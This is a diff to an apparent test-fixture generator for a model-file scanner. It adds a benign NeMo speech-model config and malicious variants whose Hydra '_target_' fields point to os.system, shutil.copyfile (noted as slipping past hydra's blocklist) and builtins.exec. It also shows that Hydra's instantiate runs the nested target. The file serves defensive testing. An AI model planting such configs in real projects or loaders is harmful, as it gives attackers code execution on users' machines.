@@ -207,6 +207,50 @@ class Attr:
         return (getattr, (PurePosixPath(tempfile.gettempdir()), "joinpath"))
 
 
+NEMO_CONFIG = {  # the shape of NeMo's Conformer-CTC config (examples/asr/conf/conformer/conformer_ctc_bpe.yaml)
+    "target": "nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE",
+    "sample_rate": 16000,
+    "tokenizer": {"dir": "tokenizer", "type": "bpe"},
+    "train_ds": {"manifest_filepath": "train.json", "batch_size": 16, "shuffle": True},
+    "preprocessor": {"_target_": "nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
+                     "sample_rate": 16000, "normalize": "per_feature", "window_size": 0.025, "features": 80},
+    "spec_augment": {"_target_": "nemo.collections.asr.modules.SpectrogramAugmentation", "freq_masks": 2},
+    "encoder": {"_target_": "nemo.collections.asr.modules.ConformerEncoder", "feat_in": 80, "n_layers": 2,
+                "d_model": 64, "subsampling": "striding"},
+    "decoder": {"_target_": "nemo.collections.asr.modules.ConvASRDecoder", "feat_in": 64, "num_classes": -1},
+    "optim": {"name": "adamw", "lr": 2.0, "betas": [0.9, 0.98], "sched": {"name": "NoamAnnealing", "warmup_steps": 10}},
+    "loss": {"_target_": "torch.nn.CTCLoss", "zero_infinity": True},
+}
+
+
+def nemo_configs() -> None:
+    """NeMo model configs as OmegaConf writes them: a benign one, and targets a loader must not call."""
+    import copy
+
+    from omegaconf import OmegaConf
+
+    out = HERE / "nemo"
+    out.mkdir(exist_ok=True)
+    OmegaConf.save(OmegaConf.create(NEMO_CONFIG), out / "model_config.yaml")
+    evil = copy.deepcopy(NEMO_CONFIG)
+    evil["preprocessor"] = {"_target_": "os.system", "_args_": [PAYLOAD]}  # CVE-2025-23304's shape
+    OmegaConf.save(OmegaConf.create(evil), out / "target_os_system.yaml")
+    # hydra-core >= 1.3.3 blocklists os.system and kin; a file write is not blocked
+    evil = copy.deepcopy(NEMO_CONFIG)
+    evil["decoder"] = {"_target_": "shutil.copyfile", "_args_": [str(HERE / "VERSIONS.txt"), str(MARK)]}
+    OmegaConf.save(OmegaConf.create(evil), out / "target_file_write.yaml")
+    evil = copy.deepcopy(NEMO_CONFIG)
+    evil["target"] = "builtins.exec"
+    OmegaConf.save(OmegaConf.create(evil), out / "top_target_exec.yaml")
+    # proof: Hydra's instantiate (what NeMo's restore_from uses) runs a nested target
+    from hydra.utils import instantiate
+
+    MARK.unlink(missing_ok=True)
+    instantiate(OmegaConf.load(out / "target_file_write.yaml").decoder)
+    assert MARK.exists(), "hydra did not run the target"
+    MARK.unlink()
+
+
 def main() -> None:
     for name, obj in benign().items():
         (HERE / "benign").mkdir(exist_ok=True)
@@ -228,8 +272,10 @@ def main() -> None:
     lightning_checkpoints()
     mlflow_models()
     attribute_pickles()
+    (HERE / "VERSIONS.txt").touch()
+    nemo_configs()
     assert str(pickle.loads((HERE / "attacks" / "getattr_method_called.pkl").read_bytes())).endswith("pwned")
-    libs = ["dill", "numpy", "pandas", "scikit-learn", "torch", "lightning", "omegaconf", "mlflow-skinny", "spacy"]
+    libs = ["dill", "numpy", "pandas", "scikit-learn", "torch", "lightning", "omegaconf", "mlflow-skinny", "spacy", "hydra-core"]
     vers = [f"python {sys.version.split()[0]}"] + [f"{x} {importlib.metadata.version(x)}" for x in libs]
     (HERE / "VERSIONS.txt").write_text("\n".join(vers) + "\n")
 
